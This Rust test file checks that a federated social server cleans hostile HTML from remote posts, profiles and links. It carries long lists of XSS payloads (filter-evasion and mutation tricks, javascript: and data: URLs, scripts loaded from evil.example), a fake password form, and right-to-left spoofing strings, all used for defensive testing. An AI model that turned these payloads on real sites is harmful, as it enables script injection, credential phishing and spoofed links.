//! Threats of the category `xss`.

use super::stage::{Stage, fault};
use super::visitor::Visitor;
use crate::scenarios::{ask, id, items, text};
use serde_json::{Value, json};

/// A tag as a browser would see it: its name, and its attributes with their values.
#[derive(Debug)]
struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
}

/// The tags of HTML, read as leniently as browsers do. What is written with character references is text.
fn tags(html: &str) -> Vec<Tag> {
    let mut found = Vec::new();
    for (at, _) in html.match_indices('<') {
        let rest = &html[at + 1..];
        let rest = rest.strip_prefix('/').unwrap_or(rest);
        if !rest.starts_with(|c: char| c.is_ascii_alphabetic()) {
            continue;
        }
        let end = rest.find(|c: char| c.is_whitespace() || c == '>' || c == '/').unwrap_or(rest.len());
        let (name, mut rest) = rest.split_at(end);
        let mut attributes = Vec::new();
        loop {
            rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
            if rest.is_empty() || rest.starts_with('>') {
                break;
            }
            let end = rest[1..]
                .find(|c: char| c.is_whitespace() || "=>/".contains(c))
                .map_or(rest.len(), |at| at + 1);
            let (attribute, after) = rest.split_at(end);
            let after = after.trim_start();
            let (value, after) = match after.strip_prefix('=').map(str::trim_start) {
                None => ("", after),
                Some(value) => match value.chars().next() {
                    Some(quote @ ('"' | '\'')) => value[1..].split_once(quote).unwrap_or((&value[1..], "")),
                    _ => value
                        .split_at(value.find(|c: char| c.is_whitespace() || c == '>').unwrap_or(value.len())),
                },
            };
            attributes.push((attribute.to_ascii_lowercase(), value.to_owned()));
            rest = after;
        }
        found.push(Tag { name: name.to_ascii_lowercase(), attributes });
    }
    found
}

const TAGS: &[&str] = &[
    "p",
    "br",
    "span",
    "a",
    "del",
    "pre",
    "code",
    "em",
    "strong",
    "b",
    "i",
    "u",
    "s",
    "ul",
    "ol",
    "li",
    "blockquote",
    "ruby",
    "rt",
    "rp",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
];
/// `title` is text that a browser shows on its own, in no place of the page's.
const ATTRIBUTES: &[&str] =
    &["href", "class", "rel", "target", "translate", "start", "reversed", "value", "lang", "title"];

/// What is wrong with HTML that the API hands out.
fn unsafe_html(html: &str) -> Vec<String> {
    let mut faults = Vec::new();
    for Tag { name, attributes } in tags(html) {
        if !TAGS.contains(&name.as_str()) {
            faults.push(format!("<{name}>"));
        }
        for (attribute, value) in attributes {
            let class = |class: &str| {
                ["h-", "p-", "u-", "dt-", "e-"].iter().any(|start| class.starts_with(start))
                    || ["mention", "hashtag", "ellipsis", "invisible", "quote-inline"].contains(&class)
            };
            let good = match attribute.as_str() {
                "href" => url::Url::parse(&value).is_ok_and(|url| ["http", "https"].contains(&url.scheme())),
                "class" => value.split_whitespace().all(class),
                "rel" => {
                    ["nofollow", "noopener", "noreferrer"].iter().all(|word| value.contains(word))
                        || name != "a"
                }
                other => ATTRIBUTES.contains(&other),
            };
            if !good {
                faults.push(format!("<{name} {attribute}={value:?}>"));
            }
        }
    }
    faults
}

/// What is wrong with a page of ours: nothing that people write may become a tag that we don't use, or an attribute
/// that runs.
fn unsafe_page(html: &str) -> Vec<String> {
    let mut faults = Vec::new();
    for Tag { name, attributes } in tags(html) {
        if [
            "script",
            "iframe",
            "object",
            "embed",
            "math",
            "base",
            "style",
            "foreignobject",
            "marquee",
            "applet",
            "frame",
            "noscript",
            "template",
            "math",
        ]
        .contains(&name.as_str())
        {
            faults.push(format!("<{name}>"));
        }
        for (attribute, value) in attributes {
            let bare: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
            let bare = bare.to_ascii_lowercase();
            let runs =
                ["javascript:", "vbscript:", "data:text"].iter().any(|scheme| bare.starts_with(scheme));
            if attribute.starts_with("on")
                || ["srcdoc", "style", "formaction", "xlink:href"].contains(&attribute.as_str())
                || (runs && !["content", "value"].contains(&attribute.as_str()))
            {
                faults.push(format!("<{name} {attribute}={value:?}>"));
            }
        }
    }
    faults
}

/// Scripts and what browsers make of them, each with a word that must not become markup.
const SCRIPTS: &[&str] = &[
    "<script>zyq()</script>",
    "<ScRiPt src=//evil.example/zyq.js></sCrIpT>",
    "<img src=x onerror=zyq()>",
    "<svg onload=zyq()>",
    "<svg><script>zyq()</script></svg>",
    "<svg><animate onbegin=zyq() attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=zyq()&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=zyq()>\"></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=zyq()>",
    "<iframe src=javascript:zyq()></iframe>",
    "<iframe srcdoc='<script>zyq()</script>'></iframe>",
    "<object data=data:text/html,zyq></object>",
    "<embed src=javascript:zyq()>",
    "<a href=javascript:zyq()>x</a>",
    "<a href=' &#106;ava&#9;script:zyq()'>x</a>",
    "<a href='//evil.example/zyq' onclick=zyq()>x</a>",
    "<a href='data:text/html,<script>zyq()</script>'>x</a>",
    "<p onclick=zyq() onmouseover='zyq()'>x</p>",
    "<p style='background:url(javascript:zyq())'>x</p>",
    "<details open ontoggle=zyq()>",
    "<video><source onerror=zyq()></video>",
    "<body onload=zyq()>",
    "<link rel=stylesheet href=//evil.example/zyq.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/zyq'>",
    "<base href=//evil.example/zyq>",
    "<!--><img src=x onerror=zyq()>-->",
    "<![CDATA[<img src=x onerror=zyq()>]]>",
    "<template><script>zyq()</script></template>",
    "<p title='\"><script>zyq()</script>'>x</p>",
    "\"><script>zyq()</script>",
    "'><img src=x onerror=zyq()>",
    "</title></textarea></style><script>zyq()</script>",
    "<scr<script>ipt>zyq()</scr</script>ipt>",
    "<<script>zyq()//<</script>",
    "<img/src=`x`onerror=zyq()>",
    "<select><option><script>zyq()</script></select>",
    "<p>&lt;script&gt;zyq()&lt;/script&gt;</p>",
    "{{constructor.constructor('zyq()')()}}",
    "\u{feff}<script>zyq()</script>",
];

/// Everything of a status or account that is HTML, by its key.
fn html_of(entity: &Value) -> Vec<(&'static str, String)> {
    let mut all = Vec::new();
    for (key, pointer) in [
        ("content", "/content"),
        ("note", "/note"),
        ("the author's note", "/account/note"),
        ("card", "/card/html"),
    ] {
        all.extend(entity.pointer(pointer).and_then(Value::as_str).map(|html| (key, html.to_owned())));
    }
    for pointer in ["/fields", "/account/fields"] {
        for field in entity.pointer(pointer).and_then(Value::as_array).into_iter().flatten() {
            all.extend(field["value"].as_str().map(|html| ("a field", html.to_owned())));
        }
    }
    all
}

/// Pages on which the stage's people and posts are seen.
async fn pages(stage: &Stage, paths: &[String]) -> Vec<(String, tintype_testkit::Answer)> {
    let mut shown = Vec::new();
    let (nobody, alice) = (Visitor::new(&stage.alpha), Visitor::signed_in(&stage.alpha, &stage.alice).await);
    for path in paths {
        for (who, visitor) in [("nobody", &nobody), ("Alice", &alice)] {
            shown.push((
                format!("{path} for {who}"),
                visitor.send("GET", path, &[("accept", "text/html")], None).await,
            ));
        }
    }
    shown
}

#[tokio::test]
async fn t028_scripts_become_text_or_nothing() {
    let stage = Stage::set().await;
    let mut variants = stage.variants();
    let mut author = stage.bob.clone();
    for (number, script) in SCRIPTS.iter().enumerate() {
        author.document["name"] = json!(script);
        author.document["summary"] = json!(script);
        author.document["attachment"] = json!([{"type": "PropertyValue", "name": script, "value": script}]);
        stage.peer.publish_actor(&author);
        let mut update = stage.peer.activity(&author, "Update", &author.document);
        update["to"] = json!(["https://www.w3.org/ns/activitystreams#Public"]);
        let told = stage.tell(&author, &update).await;
        assert_eq!(told.status, 202, "{told:?}");
        let mut note = stage.peer.note(&author, script);
        note["summary"] = json!(script);
        note["name"] = json!(script);
        note["contentMap"] = json!({"en": script});
        note["attachment"] = json!([{"type": "Document", "mediaType": "image/jpeg", "url": stage.peer.url("/x.jpg"), "name": script}]);
        note["tag"] = json!([{"type": "Hashtag", "name": format!("#{script}"), "href": "https://x.example/"}, {"type": "Emoji", "name": format!(":{script}:"), "icon": {"type": "Image", "url": stage.peer.url("/e.png")}}]);
        if number % 5 == 0 {
            note["type"] = json!("Article");
        }
        if number % 7 == 0 {
            let votes = json!({"type": "Collection", "totalItems": 0});
            note["type"] = json!("Question");
            note["oneOf"] = json!([
                {"type": "Note", "name": script, "replies": votes},
                {"type": "Note", "name": "b", "replies": votes},
            ]);
        }
        stage.peer.publish(id(&note), &note);
        let answer = stage.tell(&author, &stage.peer.create(&author, &note)).await;
        assert_eq!(answer.status, 202, "{script}: {answer:?}");
        // A comment is seen on Alice's own page.
        let post = stage.alice.say(&format!("post {number} {script}")).await;
        let mut comment = stage.peer.note(&author, script);
        comment["inReplyTo"] = post["uri"].clone();
        comment["summary"] = json!(script);
        let answer = stage.tell(&author, &stage.peer.create(&author, &comment)).await;
        assert_eq!(answer.status, 202, "{answer:?}");
        let seen = stage.alice.sees_at_home(id(&note)).await;
        for (entity, status) in [("a post", &seen), ("one's own post", &post)] {
            for (key, html) in html_of(status) {
                let mut faults = unsafe_html(&html);
                faults
                    .extend(fault(html.contains("evil.example") && html.contains("<link"), || html.clone()));
                variants.judge(&format!("{entity} of {script:?}: {key}"), &faults);
            }
        }
        stage.settled().await;
        let account = stage.alice.account(text(&seen, "/account/id")).await;
        for (key, html) in html_of(&account) {
            variants.judge(&format!("{script:?}: {key}"), &unsafe_html(&html));
        }
        for emoji in items(&seen["emojis"]) {
            let code = text(emoji, "/shortcode");
            variants.judge(
                &format!("an emoji {code:?}"),
                &fault(!code.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'), || code.to_owned()),
            );
        }
        // People of this place may write what they like; it is text.
        let answer = stage.alice.request("PATCH".parse().unwrap(), "/api/v1/accounts/update_credentials").unchecked().json(&json!({"display_name": script.chars().take(50).collect::<String>(), "note": script, "fields_attributes": [{"name": script, "value": script}]})).send().await;
        if answer.status == 200 {
            for (key, html) in html_of(&answer.json()) {
                variants.judge(&format!("one's own {script:?}: {key}"), &unsafe_html(&html));
            }
        }
        let paths = [
            format!("/@alice/{}", id(&post)),
            "/@alice".to_owned(),
            "/".to_owned(),
            format!(
                "/tags/{}",
                url::form_urlencoded::byte_serialize(script.as_bytes())
                    .collect::<String>()
                    .replace('+', "%20")
            ),
        ];
        let paths = if number % 6 == 0 { &paths[..] } else { &paths[..2] };
        for (what, page) in pages(&stage, paths).await {
            let mut faults = unsafe_page(&page.text());
            let policy = page.header("content-security-policy").unwrap_or_default();
            faults.extend(fault(
                page.status == 200
                    && (policy.contains("unsafe-inline") || !policy.contains("default-src 'none'")),
                || policy.to_owned(),
            ));
            faults.extend(fault(page.status >= 500, || format!("{}", page.status)));
            variants.judge(&format!("{script:?}: {what}"), &faults);
        }
    }
    // What a form repeats of what was typed.
    let visitor = Visitor::new(&stage.alpha);
    for script in SCRIPTS {
        let page = visitor.sign_in(script, "x").await;
        variants.judge(&format!("signing in as {script:?}"), &unsafe_page(&page.text()));
    }
    variants.done();
}

#[tokio::test]
async fn t089_links_lead_to_the_web_and_say_where() {
    let stage = Stage::set().await;
    let mut variants = stage.variants();
    let dangerous = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\u{1}javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "blob:x",
        "about:blank",
        "//evil.example/x",
        "/relative",
        "relative",
        "\\\\evil.example\\x",
        "http:evil.example",
        "http:///evil",
        "https://",
        "mailto:x@y",
        "ftp://x/",
        "view-source:http://x/",
        "",
        "http://[::1",
        "http://a b/",
    ];
    for (number, bad) in dangerous.iter().enumerate() {
        let mut actor = stage.peer.actor_at(&format!("l{number}.localhost"), "linker");
        actor.document["url"] = json!(bad);
        actor.document["icon"] = json!({"type": "Image", "mediaType": "image/png", "url": bad});
        actor.document["image"] = json!({"type": "Image", "mediaType": "image/png", "url": bad});
        actor.document["attachment"] = json!([{"type": "PropertyValue", "name": "site", "value": format!("<a href=\"{bad}\" rel=\"me\">{bad}</a>")}]);
        stage.peer.publish_actor(&actor);
        let answer = stage.tell(&actor, &stage.peer.follow(&actor, &stage.alice.actor())).await;
        variants.judge(
            &format!("an actor at {bad:?}"),
            &fault(![202, 400, 401, 422].contains(&answer.status), || format!("{answer:?}")),
        );
        let on_web = |url: &Value| {
            url.as_str().is_none_or(|url| url.starts_with("http://") || url.starts_with("https://"))
        };
        if answer.status == 202 {
            let shown = stage.alice.find_account(&actor.handle()).await;
            for key in ["url", "uri", "avatar", "avatar_static", "header", "header_static"] {
                variants.judge(
                    &format!("{bad:?}: {key}"),
                    &fault(!on_web(&shown[key]), || shown[key].to_string()),
                );
            }
            for (key, html) in html_of(&shown) {
                variants.judge(&format!("{bad:?}: {key}"), &unsafe_html(&html));
            }
            for field in items(&shown["fields"]) {
                variants.judge(
                    &format!("{bad:?}: verified"),
                    &fault(field["verified_at"] != Value::Null, || field.to_string()),
                );
            }
        }
        // An inbox of that kind is none.
        let mut inboxed = stage.peer.actor_at(&format!("i{number}.localhost"), "inboxed");
        inboxed.document["inbox"] = json!(bad);
        inboxed.document["endpoints"] = json!({"sharedInbox": bad});
        stage.peer.publish_actor(&inboxed);
        let answer = stage.tell(&inboxed, &stage.peer.follow(&inboxed, &stage.alice.actor())).await;
        variants.judge(
            &format!("an inbox at {bad:?}"),
            &fault(answer.status < 400 || ![400, 401, 403, 422, 503].contains(&answer.status), || {
                format!("{answer:?}")
            }),
        );

        let mut note = stage.peer.note(
            &stage.bob,
            &format!("<p><a href=\"{bad}\">a link</a> <a href=\"https://good.example/\">another</a></p>"),
        );
        note["url"] = json!(bad);
        note["attachment"] = json!([{"type": "Document", "mediaType": "image/jpeg", "url": bad}, {"type": "Document", "mediaType": "image/jpeg", "url": stage.peer.url("/x.jpg")}]);
        stage.peer.publish(id(&note), &note);
        let answer = stage.tell(&stage.bob, &stage.peer.create(&stage.bob, &note)).await;
        assert_eq!(answer.status, 202, "{answer:?}");
        let seen = stage.alice.sees_at_home(id(&note)).await;
        let html = text(&seen, "/content");
        let mut faults = unsafe_html(html);
        faults.extend(fault(!html.contains("https://good.example/"), || html.to_owned()));
        for Tag { name, attributes } in tags(html) {
            let of = |key: &str| {
                attributes.iter().find(|(name, _)| name == key).map_or("", |(_, value)| value.as_str())
            };
            if name == "a"
                && !of("href").is_empty()
                && !["nofollow", "noopener", "noreferrer"].iter().all(|word| of("rel").contains(word))
            {
                faults.push(format!("rel={:?}", of("rel")));
            }
        }
        faults.extend(fault(!on_web(&seen["url"]), || seen["url"].to_string()));
        for media in items(&seen["media_attachments"]) {
            for key in ["url", "preview_url", "remote_url"] {
                faults.extend(fault(!on_web(&media[key]), || media[key].to_string()));
            }
        }
        variants.judge(&format!("a post at {bad:?}"), &faults);
        // Of people here: fields and texts link to the web alone.
        let answer = stage
            .alice
            .request("PATCH".parse().unwrap(), "/api/v1/accounts/update_credentials")
            .unchecked()
            .json(&json!({"note": bad, "fields_attributes": [{"name": "site", "value": bad}]}))
            .send()
            .await;
        if answer.status == 200 {
            for (key, html) in html_of(&answer.json()) {
                variants.judge(&format!("one's own {bad:?}: {key}"), &unsafe_html(&html));
            }
        }
        for (what, page) in pages(&stage, &["/@alice".to_owned()]).await {
            variants.judge(&format!("{bad:?}: {what}"), &unsafe_page(&page.text()));
        }
    }
    // Letters that turn a line around don't make one address of another.
    for (name, turned) in
        [("a name", "gro.rekcatta\u{202e}moc.elgoog"), ("isolates", "\u{2066}evil\u{2069}\u{202d}x")]
    {
        let mut actor = stage.peer.actor_at("rtl.localhost", "rtl");
        actor.document["name"] = json!(turned);
        stage.peer.publish_actor(&actor);
        stage.tell(&actor, &stage.peer.follow(&actor, &stage.alice.actor())).await;
        stage.tell(&actor, &stage.peer.activity(&actor, "Update", &actor.document)).await;
        stage.settled().await;
        let shown = stage.alice.find_account(&actor.handle()).await;
        let turns = text(&shown, "/display_name")
            .contains(|c| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'));
        variants.judge(name, &fault(turns, || shown["display_name"].to_string()));
        let url = "https://good.example/\u{202e}elpmaxe.live";
        let post = stage.alice.say(&format!("see {url}")).await;
        let html = text(&post, "/content").to_owned();
        let spoofs = html
            .split("href=\"")
            .skip(1)
            .any(|rest| rest.split('"').next().is_some_and(|href| href.contains('\u{202e}')));
        variants.judge("a link", &fault(spoofs, || html.clone()));
    }
    variants.done();
}

#[tokio::test]
async fn t090_markup_draws_nothing_over_our_pages() {
    let stage = Stage::set().await;
    let mut variants = stage.variants();
    let overlays = [
        "<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>",
        "<p class='compose-form modal-root fixed' id='app' style='position:fixed;inset:0'>x</p>",
        "<span class=\"invisible mention hashtag ellipsis h-card u-url evil sheet alarm\">x</span>",
        "<a class='button logo' href=https://evil.example style=display:block>x</a>",
        "<style>*{display:none}</style><p>x</p>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<table><tr><td background=https://evil.example/x.png>x</table>",
        "<img src=https://evil.example/track.png width=9999>",
        "<input autofocus onfocus=x><textarea>x</textarea><select><option>x</select>",
        "<dialog open>x</dialog><details open><summary>x</summary></details>",
        "<p hidden popover id=x tabindex=1 contenteditable draggable=true dir=rtl>x</p>",
        "<label for=username>x</label><a name=main>x</a>",
        "<p data-method=delete data-controller=x aria-live=assertive role=alert>x</p>",
        "<div is=x slot=y part=z itemprop=w>x</div>",
        "<marquee>x</marquee><blink>x</blink><center>x</center><font size=7 color=red>x</font>",
        "<h1>x</h1><hr><picture><source srcset=https://evil.example/x></picture>",
        "<svg><use href=https://evil.example/x#y></svg><canvas></canvas><audio autoplay src=x></audio>",
        "</div></main></body></html><p>x",
        "</p></span></li></ul></article></section><p>x",
        "<p>unclosed <b>x <i>x <a href=https://evil.example>x",
    ];
    for markup in overlays {
        let post = stage.alice.say("a post").await;
        let mut note = stage.peer.note(&stage.bob, markup);
        note["inReplyTo"] = post["uri"].clone();
        stage.peer.publish(id(&note), &note);
        let answer = stage.tell(&stage.bob, &stage.peer.create(&stage.bob, &note)).await;
        assert_eq!(answer.status, 202, "{answer:?}");
        stage.settled().await;
        let context = stage.alice.context(id(&post)).await;
        let comment = &items(&context["descendants"])[0];
        let html = text(comment, "/content");
        let mut faults = unsafe_html(html);
        // What is opened is closed, so that it can't swallow what comes after it on a page.
        for name in ["a", "b", "i", "p", "span", "li", "ul"] {
            let (opened, closed) = (
                html.matches(&format!("<{name}>")).count() + html.matches(&format!("<{name} ")).count(),
                html.matches(&format!("</{name}>")).count(),
            );
            faults.extend(fault(opened != closed, || {
                format!("{opened} <{name}> and {closed} </{name}>: {html}")
            }));
        }
        variants.judge(markup, &faults);
        for (what, page) in pages(&stage, &[format!("/@alice/{}", id(&post))]).await {
            let body = page.text();
            let inside: Vec<Tag> = tags(&body);
            let policy = page.header("content-security-policy").unwrap_or_default().to_owned();
            let mut faults = unsafe_page(&body);
            faults.extend(fault(!policy.contains("form-action 'self'"), || policy.clone()));
            for Tag { name, attributes } in inside {
                let own = |value: &str| value.starts_with('/') || value.starts_with(&stage.alpha.base());
                for (attribute, value) in attributes {
                    let loads = ["src", "srcset", "action", "poster", "background"]
                        .contains(&attribute.as_str())
                        || (name == "link" && attribute == "href" && value.contains("css"));
                    faults.extend(fault(loads && !value.is_empty() && !own(&value), || {
                        format!("<{name} {attribute}={value:?}>")
                    }));
                }
            }
            faults.extend(fault(
                !body.trim_end().ends_with("</html>") || body.matches("</body>").count() > 1,
                || "its end".into(),
            ));
            variants.judge(&format!("{markup}: {what}"), &faults);
        }
    }
    let page = ask(&stage.alpha.client(), "/auth/sign_in").await;
    assert!(
        page.header("content-security-policy")
            .is_some_and(|policy| policy.contains("frame-ancestors 'none'"))
    );
    variants.done();
}
